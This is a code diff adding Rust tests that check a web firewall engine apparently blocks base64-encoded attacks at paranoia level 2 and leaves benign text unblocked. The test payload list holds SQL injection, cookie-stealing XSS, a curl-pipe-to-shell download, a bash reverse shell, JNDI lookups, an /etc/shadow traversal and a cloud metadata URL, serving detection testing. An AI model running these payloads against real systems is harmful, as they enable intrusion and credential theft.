@@ -419,3 +419,90 @@ fn protocol_attacks_smuggling_ldap_multipart_charsets() {
         assert!(!blocked(&engine, 1, r), "{} {} blocked", r.method, r.target);
     }
 }
+
+fn benign_lines() -> Vec<String> {
+    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/benign");
+    let mut lines = Vec::new();
+    for file in [
+        "prose.txt",
+        "technical.txt",
+        "tokens.txt",
+        "more.txt",
+        "graphql.txt",
+        "international.txt",
+    ] {
+        let text = std::fs::read_to_string(format!("{dir}/{file}")).expect("benign corpus file");
+        lines.extend(
+            text.lines()
+                .filter(|l| !l.trim().is_empty())
+                .map(|l| l.replace("\\n", "\n")),
+        );
+    }
+    lines
+}
+
+/// Base64 inside values is decoded at paranoia 2 only, and judged by the SQL, XSS,
+/// command, JNDI and path detectors.
+#[test]
+fn attacks_hidden_in_base64_are_blocked_at_paranoia_2_only() {
+    let engine = engine();
+    let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
+    let url = |s: &str| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(s);
+    for payload in [
+        "1' UNION SELECT username, password FROM users-- -",
+        "admin' OR '1'='1",
+        "<svg/onload=alert(document.domain)>",
+        "<img src=x onerror=fetch('//evil.example/'+document.cookie)>",
+        "; curl http://evil.example/x | sh",
+        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+        "${jndi:ldap://evil.example/a}",
+        "${${lower:j}ndi:rmi://evil.example/a}",
+        "../../../../etc/shadow",
+        "http://169.254.169.254/latest/meta-data/iam/",
+    ] {
+        for encoded in [b64(payload), url(payload)] {
+            for r in positions(&encoded) {
+                assert!(
+                    blocked(&engine, 2, &r),
+                    "{payload:?} as {encoded} passed at paranoia 2"
+                );
+                assert!(
+                    !blocked(&engine, 1, &r),
+                    "{payload:?} as {encoded} blocked at paranoia 1 (base64 is a paranoia 2 decoding)"
+                );
+            }
+        }
+    }
+}
+
+/// The benign corpus (JWTs and base64 blobs included) stays clean at paranoia 2, and a
+/// benign line wrapped in base64 is blocked only when the line itself is.
+#[test]
+fn benign_text_in_base64_stays_clean() {
+    let engine = engine();
+    let mut wrapped_blocked = Vec::new();
+    for line in benign_lines() {
+        let encoded = base64::engine::general_purpose::STANDARD.encode(&line);
+        let r = req(
+            "POST",
+            "/x",
+            &[("content-type", b"application/json")],
+            serde_json::json!({ "data": encoded })
+                .to_string()
+                .as_bytes(),
+        );
+        let plain = req(
+            "POST",
+            "/x",
+            &[("content-type", b"application/json")],
+            serde_json::json!({ "data": line }).to_string().as_bytes(),
+        );
+        if blocked(&engine, 2, &r) && !blocked(&engine, 2, &plain) {
+            wrapped_blocked.push(line);
+        }
+    }
+    assert!(
+        wrapped_blocked.is_empty(),
+        "benign lines blocked only once base64-encoded: {wrapped_blocked:?}"
+    );
+}
